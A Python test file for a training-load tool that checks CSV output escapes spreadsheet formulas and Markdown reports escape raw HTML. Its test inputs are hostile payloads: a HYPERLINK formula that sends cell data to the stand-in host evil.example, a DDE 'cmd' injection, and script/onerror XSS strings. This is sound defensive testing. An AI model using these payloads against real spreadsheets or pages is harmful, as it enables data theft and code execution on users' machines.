"""Issue 11, item 16: spreadsheet formulas are neutralised in CSV outputs and in `pain add`;
Markdown output escapes raw HTML in names and notes."""

from __future__ import annotations

import csv
import io

import pytest

from loadwatch import pain
from loadwatch.report import markdown
from loadwatch.report import squad as views
from tests import story
from tests.hostile.helpers import invoke
from tests.report import sample_report

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
CSV_HEADER = "Activity ID,Activity Date,Activity Name,Activity Type,Elapsed Time,Distance,Filename\n"


def test_timeline_csv_neutralises_formulas(tmp_path):
    folder = tmp_path / "runs"
    folder.mkdir()
    rows = "".join(f'{i},"Nov {10 + i}, 2026, 7:00:00 AM","{f.replace(chr(34), chr(34) * 2)}",'
                   f"Run,1200,2.20,\n" for i, f in enumerate(FORMULAS))
    (folder / "activities.csv").write_text(CSV_HEADER + rows)
    result = invoke("timeline", folder, "--no-cache", "--format", "csv")
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    names = [r["name"] for r in table]
    assert len(names) == len(FORMULAS)
    for name in names:
        assert name.startswith("'"), name
    assert names[0] == "'" + FORMULAS[0]
    # Numbers stay numbers.
    assert all(float(r["distance_m"]) == 2200.0 for r in table)


@pytest.mark.parametrize("text", FORMULAS[:4])
def test_pain_add_neutralises_formulas_and_reads_them_back(tmp_path, text):
    path = tmp_path / "pain.csv"
    result = invoke("pain", "add", "--pain", path, "--date", "2026-11-10", "--severity", "2",
                    "--location", text, "--note", text)
    assert result.exit_code == 0, result.output
    (row,) = list(csv.reader(io.StringIO(path.read_text())))[1:]
    assert row[2] == "'" + text and row[6] == "'" + text
    diary = pain.read_diary(path)
    assert list(diary.entries["notes"]) == [text] and list(diary.entries["location"]) == [text]


HOSTILE = '<img src=x onerror="alert(1)"> & <script>alert(2)</script> | pipe'


def test_report_markdown_escapes_raw_html():
    report = sample_report()
    report = {**report, "athlete": HOSTILE}
    for ep in report.get("pain", {}).get("episodes", []):
        ep["summary"] = "Your " + HOSTILE + " began"
    text = markdown.render(report)
    assert "<img" not in text and "<script>" not in text
    assert "&lt;img src=x onerror=\"alert(1)\"&gt; &amp; &lt;script&gt;" in text
    assert "\\| pipe" in text


def test_report_markdown_escapes_the_runners_pain_location(tmp_path):
    folder = story.write(tmp_path / "a", toml='[athlete]\nname = "<b>Ann</b>"\n')
    (folder / "pain.csv").write_text("date,severity,location,side,onset,symptoms,notes\n"
                                     "2026-11-17,4,<i>knee</i>,,gradual,,\n"
                                     "2026-11-18,4,<i>knee</i>,,gradual,,\n")
    result = invoke("report", folder, "--no-cache", "--as-of", "2026-11-22", "--format",
                    "markdown")
    assert result.exit_code == 0, result.output
    assert "<b>" not in result.stdout and "<i>" not in result.stdout
    assert "&lt;b&gt;Ann&lt;/b&gt;" in result.stdout


def test_squad_markdown_escapes_raw_html():
    doc = {"as_of": "2026-11-22", "athletes": [],
           "errors": [{"rank": 1, "athlete": HOSTILE, "folder": "x", "error": "<b>broken</b>"}],
           "skipped": [{"folder": "<u>dir</u>", "reason": "no files"}]}
    text = views.render_markdown(doc)
    assert "<" not in text.replace("&lt;", "")
    assert "&lt;script&gt;" in text and "&lt;u&gt;dir&lt;/u&gt;" in text
